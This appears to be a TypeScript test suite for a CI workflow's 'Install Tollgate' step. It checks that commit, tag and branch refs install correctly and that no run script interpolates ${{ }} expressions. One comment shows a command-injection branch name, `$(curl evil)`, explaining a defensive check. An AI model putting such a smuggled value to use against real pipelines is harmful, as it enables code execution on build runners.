// The example CI workflow's "Install Tollgate" step, run as GitHub runs a `run:` script (bash -e
// -o pipefail) against a local repository standing in for github.com/OWNER/tollgate: whatever
// TOLLGATE_REF pins (a commit id, a tag, a branch), the checkout is that commit and the gateway's
// bin/ goes on the PATH. `npm` is replaced by a function that records its arguments (no install).
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { parse } from 'yaml';

const WORKFLOW = fileURLToPath(new URL('./.github/workflows/gateway.yml', import.meta.url));

interface Step {
  name?: string;
  run?: string;
}

let dir: string;
let origin: string;
const commits: string[] = [];

function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', args, {
    cwd,
    encoding: 'utf8',
    env: {
      ...process.env,
      GIT_AUTHOR_NAME: 't',
      GIT_AUTHOR_EMAIL: 't@t',
      GIT_COMMITTER_NAME: 't',
      GIT_COMMITTER_EMAIL: 't@t',
    },
  }).trim();
}

before(() => {
  dir = mkdtempSync(join(tmpdir(), 'tollgate-workflow-'));
  origin = join(dir, 'origin');
  mkdirSync(origin);
  git(origin, 'init', '-q', '-b', 'main');
  for (const n of ['one', 'two']) {
    writeFileSync(join(origin, 'VERSION'), n);
    git(origin, 'add', 'VERSION');
    git(origin, 'commit', '-q', '-m', n);
    commits.push(git(origin, 'rev-parse', 'HEAD'));
  }
  git(origin, 'tag', '-a', 'v1', '-m', 'v1', commits[0]!);
});
after(() => rmSync(dir, { recursive: true, force: true }));

function installStep(): string {
  const wf = parse(readFileSync(WORKFLOW, 'utf8')) as { jobs: Record<string, { steps: Step[] }> };
  const step = Object.values(wf.jobs)
    .flatMap((j) => j.steps)
    .find((s) => s.name === 'Install Tollgate');
  assert.ok(step?.run, 'the workflow has an "Install Tollgate" step with a run script');
  assert.match(step.run, /https:\/\/github\.com\/OWNER\/tollgate/);
  return step.run.replaceAll('https://github.com/OWNER/tollgate', `file://${origin}`);
}

function runInstall(ref: string, name: string) {
  const temp = join(dir, name);
  mkdirSync(temp);
  const ghPath = join(temp, 'GITHUB_PATH');
  const npmLog = join(temp, 'npm.log');
  const script = `npm() { printf '%s\\n' "$*" >> "${npmLog}"; }\n${installStep()}`;
  const r = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', script], {
    encoding: 'utf8',
    env: { PATH: process.env.PATH, HOME: temp, RUNNER_TEMP: temp, GITHUB_PATH: ghPath, TOLLGATE_REF: ref },
    timeout: 60_000,
  });
  return { ...r, temp, ghPath, npmLog };
}

for (const [kind, ref, want] of [
  ['a commit id', () => commits[0]!, 0],
  ['a tag', () => 'v1', 0],
  ['a branch', () => 'main', 1],
] as const) {
  test(`Install Tollgate checks out TOLLGATE_REF given as ${kind}`, () => {
    const r = runInstall(ref(), kind.replace(/\W/g, '-'));
    assert.equal(r.status, 0, r.stderr);
    const checkout = join(r.temp, 'tollgate');
    assert.equal(git(checkout, 'rev-parse', 'HEAD'), commits[want]);
    assert.equal(readFileSync(join(checkout, 'VERSION'), 'utf8'), want === 0 ? 'one' : 'two');
    assert.match(readFileSync(r.npmLog, 'utf8'), new RegExp(`^ci --prefix ${checkout} `));
    assert.equal(readFileSync(r.ghPath, 'utf8'), `${join(checkout, 'bin')}\n`);
  });
}

test('no run script splices a ${{ }} expression into its text; values arrive as environment variables', () => {
  const wf = parse(readFileSync(WORKFLOW, 'utf8')) as { jobs: Record<string, { steps: Step[] }> };
  for (const step of Object.values(wf.jobs).flatMap((j) => j.steps)) {
    // A branch name like `$(curl evil)` is a valid git ref: spliced into the script, the shell runs it.
    assert.doesNotMatch(step.run ?? '', /\$\{\{/, `step '${step.name}' interpolates an expression into its script`);
  }
});
